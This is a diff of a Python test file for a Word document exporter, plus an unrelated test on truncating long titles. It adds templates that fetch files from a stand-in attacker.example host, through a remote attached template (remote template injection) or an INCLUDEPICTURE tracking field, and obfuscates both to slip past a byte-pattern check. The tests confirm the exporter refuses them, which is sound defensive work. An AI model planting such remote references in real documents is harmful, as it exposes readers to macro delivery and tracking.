@@ -213,8 +213,29 @@ def _footer_picture_field(parts) -> None:
                                           b'<w:fldChar w:fldCharType="end"/>', 1)
 
 
+def _attached_remote_template_single_quotes(parts) -> None:
+    """The same relationship with its attributes in single quotes (as valid XML; the byte pattern looked for
+    TargetMode="External" and let it through, and python-docx wrote it back in double quotes into the annex)."""
+    _attached_remote_template(parts)
+    rels = parts["word/_rels/settings.xml.rels"]
+    parts["word/_rels/settings.xml.rels"] = rels.replace(b'Target="http://attacker.example/t.dotm" TargetMode="Exter'
+                                                         b'nal"', b"Target='http://attacker.example/t.dotm' "
+                                                         b"TargetMode = 'External'")
+
+
+def _footer_picture_field_split(parts) -> None:
+    """The field's instruction over three runs, its name cut in two, as Word writes a field edited by hand (the
+    byte pattern wanted the name and the address in one run)."""
+    _footer_picture_field(parts)
+    footer = next(name for name in parts if re.fullmatch(r"word/footer\d+\.xml", name))
+    parts[footer] = parts[footer].replace(b' INCLUDEPICTURE "http', b' INCLUDEPIC</w:instrText></w:r><w:r><w:instrText>'
+                                          b'TURE </w:instrText></w:r><w:r><w:instrText xml:space="preserve">"http')
+
+
 @pytest.mark.parametrize("edit, address", [(_attached_remote_template, "http://attacker.example/t.dotm"),
-                                           (_footer_picture_field, "http://attacker.example/pixel.png")])
+                                           (_footer_picture_field, "http://attacker.example/pixel.png"),
+                                           (_attached_remote_template_single_quotes, "http://attacker.example/t.dotm"),
+                                           (_footer_picture_field_split, "http://attacker.example/pixel.png")])
 def test_a_template_that_fetches_a_file_from_outside_is_refused(tmp_path, edit, address):
     """Before: a house template attaching a remote template (Word fetches http://…/t.dotm on opening: « remote
     template injection », which can bring macros) or whose footer holds an INCLUDEPICTURE of an address passed into
@@ -282,3 +303,20 @@ def test_a_table_too_wide_for_its_words_is_set_smaller_and_no_column_is_narrower
     for column, width in enumerate(widths):
         longest = max(word._text_twips(w, r is rows[0], size) for r in rows for w in r[column].split(" "))
         assert width >= longest + word.CELL_MARGINS, (rows[0][column], width, longest)
+
+
+def test_a_title_longer_than_a_document_property_is_whole_in_the_title_block():
+    """A project title of 300 characters (IATI activities' titles often are; make check said OK): python-docx
+    refused it as the document's Title property (« exceeded 255 char limit ») and the export of every annex
+    failed. The title block shows it whole; the property holds its first 255 characters at most, cut at a word."""
+    title = "Programme d'appui " + "à la gouvernance des migrations de main-d'œuvre " * 6
+    subject = "Annexe d'évaluation — " + "Maroc " * 60
+    document = docx.Document(io.BytesIO(word.docx(page("fr"), "fr", title, subject, when=WHEN)))
+    assert [p.text for p in document.paragraphs[:1]] == [TITLE]   # (the page's own title block)
+    props = document.core_properties
+    assert len(props.title) <= 255 and props.title.endswith("…") and title.startswith(props.title[:-1])
+    assert props.title[:-1] == title[:len(props.title) - 1] and title[len(props.title) - 1] == " "
+    assert len(props.subject) <= 255 and subject.startswith(props.subject[:-1])
+    assert word.docx(page("fr"), "fr", TITLE, "x", when=WHEN)   # a short title is kept as it is
+    short = docx.Document(io.BytesIO(word.docx(page("fr"), "fr", TITLE, "x", when=WHEN))).core_properties
+    assert (short.title, short.subject) == (TITLE, "x")
